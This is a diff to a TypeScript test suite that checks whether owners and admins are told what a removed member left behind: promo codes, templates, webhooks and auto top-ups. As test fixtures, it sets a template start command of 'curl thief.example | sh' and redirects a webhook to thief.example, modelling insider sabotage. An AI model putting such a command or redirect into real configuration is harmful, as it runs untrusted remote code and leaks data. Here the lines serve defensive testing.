@@ -3,9 +3,10 @@ import { db } from "~/platform/db.server";
 import { findSession, startSession } from "~/accounts/session.server";
 import { removeMember } from "~/accounts/inside/teams/change-member.server";
 import { switchTeam } from "~/accounts/switch-team.server";
-import { addEndpoint, rotateSecret } from "~/accounts/inside/endpoints/change-endpoints.server";
+import { addEndpoint, changeEndpoint, rotateSecret } from "~/accounts/inside/endpoints/change-endpoints.server";
 import { issueEnrolmentToken } from "~/fleet/inside/nodes/issue-enrolment-token.server";
 import { isOpenEnrolmentToken } from "~/fleet/find-enrolment-token.server";
+import type { Cents } from "~/money/units";
 import { M } from "~/messages";
 import { setRole } from "~/staff/inside/set-role.server";
 import { suspendUser } from "~/staff/inside/suspend-user.server";
@@ -17,14 +18,17 @@ import { anEd25519Line } from "../../../support/ssh-key";
 import { readLeftBehind } from "~/accounts/read-left-behind.server";
 import { leftBehindLines } from "~/accounts/inside/teams/left-behind";
 import { closeAccount } from "~/staff/inside/close-account.server";
-import { createTemplate } from "~/compute/change-template.server";
+import { changeTemplate, createTemplate } from "~/compute/change-template.server";
 import { seedTemplates } from "../../../../prisma/seed-templates";
 import { aKeepingNode, aVolume } from "../../../compute/database/volumes/a-volume";
+import { switchOnAutoTopUp } from "~/payments/inside/auto-top-up/change-auto-top-up.server";
+import { createPromo, disablePromo } from "~/payments/inside/marketing/create-promo.server";
 import { aMember } from "../../../support/team-world";
 import { aNode, aTenant } from "../../../support/world";
 import { emptyCapacity } from "../../../compute/database/capacity/reserving";
 import { mailsTo } from "../../../staff/database/users/mails";
 import {
+  admin,
   asAdmin,
   aTask,
   aTeamAgain,
@@ -161,6 +165,28 @@ test("Sessions of a removed member and tokens of staff who lost the role open no
   expect((await findSession({ cookie: started.cookie, now }))?.account.tenantId).toBe(leaver.tenantId);
 });
 
+test("Promo codes that a former admin made and that still give something are named to the other admins", async () => {
+  const staff = await aTenant({ role: "admin" });
+  const promo = {
+    name: "x",
+    kind: "balance_credit" as const,
+    value: 100_000,
+    duration: "once" as never,
+    expiresAt: null,
+  };
+  const make = async (code: string, maxRedemptions: number | null = null) =>
+    await createPromo({ ...promo, code, maxRedemptions, actorId: staff.userId, requestId, now });
+  await make("BACKDOOR");
+  await make("TWICE", 2);
+  await make("GONE");
+  await disablePromo({ code: "GONE", actorId: admin.userId, requestId, now });
+  await setRole({ ...asAdmin(), userId: staff.userId, role: "customer" });
+  const mail = (await mailsTo(admin.email)).find(({ subject }) => subject.startsWith("Replace the keys"));
+  expect(mail?.text).toContain("- the promo code BACKDOOR, without a limit of uses\n");
+  expect(mail?.text).toContain("- the promo code TWICE, 2 uses left\n");
+  expect(mail?.text).not.toContain("GONE");
+});
+
 test("The owner learns what a removed member created and its cost; those who manage the team learn it beforehand", async () => {
   await storeSshKey({ ...team(leaver), sshPublicKey: leaversKey, now });
   await aKeepingNode({ now });
@@ -184,6 +210,33 @@ test("The owner learns what a removed member created and its cost; those who man
   expect(mail?.text).toContain(leaver.email);
   // It goes on, as it is the team's.
   expect(await opensBy(resvGuid)).toBe(ownersKey);
+});
+
+test("So does the owner of what a removed member changed last: where webhooks go, what templates start, what tops up", async () => {
+  await seedTemplates({ now });
+  await createTemplate(team(owner), { name: "theirs", image: "pytorch" } as never);
+  await changeTemplate({ ...team(leaver), named: "theirs" }, { start_command: "curl thief.example | sh" } as never);
+  const hook = { url: "https://hooks.example/x", description: "", eventTypes: ["task.ended"] };
+  const { endpointId } = await addEndpoint(team(owner), hook);
+  await changeEndpoint(team(leaver), { endpointId, url: "https://thief.example/x" });
+  await rotateSecret(team(owner), { endpointId });
+  const own = await addEndpoint(team(leaver), hook);
+  await changeEndpoint(team(owner), { ...own, url: "https://ours.example/x" });
+  await db.query(
+    `insert into card (pm_id, tenant_id, brand, last4, exp_month, exp_year, is_default, added_at, user_id)
+     values ('pm_owners', $1, 'visa', '4242', 12, 2034, true, now(), $2)`,
+    [owner.tenantId, owner.userId],
+  );
+  const amounts = { thresholdCents: 1_000n as Cents, cents: 5_000n as Cents, monthCapCents: 50_000n as Cents };
+  await switchOnAutoTopUp({ ...team(leaver), ...amounts });
+  await removeMember(managed());
+  const mail = (await mailsTo(owner.email)).find(({ subject }) => subject.startsWith("What a former member"));
+  for (const line of [
+    "1 template: theirs",
+    "1 webhook endpoint: thief.example",
+    "1 automatic top-up: $50.00 below $10.00, up to $500.00 a month",
+  ])
+    expect(mail?.text).toContain(`- ${line}\n`);
 });
 
 test("Tasks of a limited member who deletes their account stop, because no limit counts them any more", async () => {
